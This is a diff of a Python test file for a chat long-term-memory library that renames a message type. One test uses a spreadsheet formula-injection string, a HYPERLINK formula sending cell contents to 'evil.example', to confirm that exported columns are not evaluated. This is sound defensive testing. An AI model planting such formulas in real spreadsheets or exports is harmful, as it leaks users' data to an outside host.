@@ -12,7 +12,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from long_term_memory.core.types import Scope, Shown, Window
+from long_term_memory.core.types import Scope, Window, WindowMessage
 from long_term_memory.engine.bank import Bank
 from long_term_memory.engine.engine import Engine
 from long_term_memory.errors import InvalidInput, StoreError
@@ -27,11 +27,13 @@ def bank(engine: Engine) -> Bank:
     """One chat with a hidden, a corrected and a deleted message; two notes."""
     bank = engine.bank(Scope(user="default", character="Miku / 初音"))
     messages = (
-        Shown("user", "My cat is Miso.", name="Anon", said_at=LOCAL),
-        Shown("assistant", "# Not a heading\nHow nice.", name="Miku", said_at=LOCAL),
-        Shown("user", "A secret.", hidden=True),
-        Shown("assistant", "Half \ud83d.", name="Miku"),
-        Shown("system", "Night falls."),
+        WindowMessage("user", "My cat is Miso.", name="Anon", said_at=LOCAL),
+        WindowMessage(
+            "assistant", "# Not a heading\nHow nice.", name="Miku", said_at=LOCAL
+        ),
+        WindowMessage("user", "A secret.", hidden=True),
+        WindowMessage("assistant", "Half \ud83d.", name="Miku"),
+        WindowMessage("system", "Night falls."),
     )
     chat = bank.chat("20261121", host="webui")
     chat.observe(Window(messages=messages, complete=True))
@@ -103,7 +105,7 @@ def test_every_column_with_words_of_others_is_kept_from_being_computed(
 ) -> None:
     evil = '=HYPERLINK("http://evil.example/?"&A1)'
     bank = engine.bank(Scope(user="default", character=evil))
-    said = Shown("assistant", evil, name=evil)
+    said = WindowMessage("assistant", evil, name=evil)
     bank.chat(evil, host="webui").observe(Window(messages=(said,), complete=True))
     bank.memories.add("-2+3 is one")
 
